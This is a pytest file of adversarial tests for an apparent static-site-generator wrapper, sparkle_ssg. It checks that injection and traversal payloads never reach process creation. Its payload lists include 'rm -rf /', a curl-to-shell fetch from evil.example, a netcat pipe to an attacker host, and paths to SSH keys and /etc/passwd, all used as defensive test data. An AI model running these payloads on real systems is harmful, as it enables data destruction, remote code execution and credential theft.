"""Adversarial tests: injection payloads never reach process creation.

Payloads go through every layer that accepts caller input: the
validators, tool execution with a recording invoker, and the safe
invoker with process creation patched out.
"""

from unittest.mock import AsyncMock, patch

import pytest

from sparkle_ssg.adapters import AdapterSession, get_adapter, list_adapters
from sparkle_ssg.invoker import SafeInvoker

SHELL_PAYLOADS = [
    "site; rm -rf /",
    "site && curl evil.example | sh",
    "site | nc attacker 4444",
    "$(whoami)",
    "`id`",
    "${HOME}",
    "site > /etc/passwd",
    "site < /dev/zero",
    "{a,b}",
    "[abc]",
    "site\0--force",
]

PATH_ONLY_PAYLOADS = ["../../../etc/passwd", "~/.ssh/id_rsa", "*", "site?", "!!", "#"]


@pytest.mark.adversarial
class TestPathParameters:
    @pytest.mark.asyncio
    @pytest.mark.parametrize("payload", SHELL_PAYLOADS + PATH_ONLY_PAYLOADS)
    async def test_zola_path_payloads(self, zola, recording_invoker, payload):
        session = AdapterSession(zola, invoker=recording_invoker)
        for tool in ("zola_init", "zola_build", "zola_serve", "zola_check"):
            result = await session.call(tool, {"path": payload})
            assert result.success is False
            assert result.stderr == "Invalid path"
        assert recording_invoker.calls == []

    @pytest.mark.asyncio
    @pytest.mark.parametrize("name", list_adapters())
    async def test_every_adapter_rejects_traversal(self, name, recording_invoker):
        adapter = get_adapter(name)
        session = AdapterSession(adapter, invoker=recording_invoker)
        for tool in adapter.tools:
            path_params = [
                param
                for param, prop in tool.input_schema["properties"].items()
                if prop["type"] == "string" and param in ("path", "parent", "outputDir", "script", "dest")
            ]
            for param in path_params:
                result = await session.call(tool.name, {param: "../../../etc"})
                if result.stderr.startswith("Missing required parameter"):
                    continue
                assert result.success is False
                assert result.stderr.startswith("Invalid ")
        assert recording_invoker.calls == []


@pytest.mark.adversarial
class TestStringParameters:
    @pytest.mark.asyncio
    @pytest.mark.parametrize("payload", SHELL_PAYLOADS)
    async def test_mdbook_title(self, recording_invoker, payload):
        session = AdapterSession(get_adapter("mdbook"), invoker=recording_invoker)
        result = await session.call("mdbook_init", {"path": "book", "title": payload})
        assert result.stderr == "Invalid title"
        assert recording_invoker.calls == []

    @pytest.mark.asyncio
    @pytest.mark.parametrize("payload", ["1111; id", "1111 && id", "-1", 0, 65536, True, "8080"])
    async def test_port_payloads(self, zola, recording_invoker, payload):
        session = AdapterSession(zola, invoker=recording_invoker)
        result = await session.call("zola_serve", {"port": payload})
        assert result.success is False
        assert result.stderr == "Invalid port number"
        assert recording_invoker.calls == []

    @pytest.mark.asyncio
    @pytest.mark.parametrize(
        "payload",
        ["javascript:alert(1)", "data:text/html,<script>", "file:///etc/passwd", "https://", "ftp://x.dev/"],
    )
    async def test_url_payloads(self, zola, recording_invoker, payload):
        session = AdapterSession(zola, invoker=recording_invoker)
        result = await session.call("zola_build", {"baseUrl": payload})
        assert result.success is False
        assert recording_invoker.calls == []


@pytest.mark.adversarial
class TestInvokerBoundary:
    @pytest.mark.asyncio
    @pytest.mark.parametrize("payload", SHELL_PAYLOADS)
    async def test_argument_payloads_never_spawn(self, payload):
        with patch("sparkle_ssg.invoker.asyncio.create_subprocess_exec", new_callable=AsyncMock) as spawn:
            result = await SafeInvoker().invoke("echo", ["ok", payload])
        spawn.assert_not_called()
        assert result.success is False
        assert result.code == 1
        assert result.stderr.startswith("Invalid argument: ")

    @pytest.mark.asyncio
    @pytest.mark.parametrize("binary", ["sh -c id", "ls;id", "$(id)", "../bin/sh", "C:\\Windows\\cmd.exe"])
    async def test_binary_payloads_never_spawn(self, binary):
        with patch("sparkle_ssg.invoker.asyncio.create_subprocess_exec", new_callable=AsyncMock) as spawn:
            result = await SafeInvoker().invoke(binary, [])
        spawn.assert_not_called()
        assert result.success is False
        assert result.stderr in ("Invalid binary path", "Invalid binary name")

    @pytest.mark.asyncio
    async def test_url_passing_shape_check_still_hits_argument_ban(self, zola):
        # A well-formed URL can still carry "$(...)"; the invoker's own check catches it
        session = AdapterSession(zola, invoker=SafeInvoker())
        with patch("sparkle_ssg.invoker.asyncio.create_subprocess_exec", new_callable=AsyncMock) as spawn:
            result = await session.call("zola_build", {"baseUrl": "https://x.dev/$(id)"})
        spawn.assert_not_called()
        assert result.stderr == "Invalid argument: https://x.dev/$(id)"
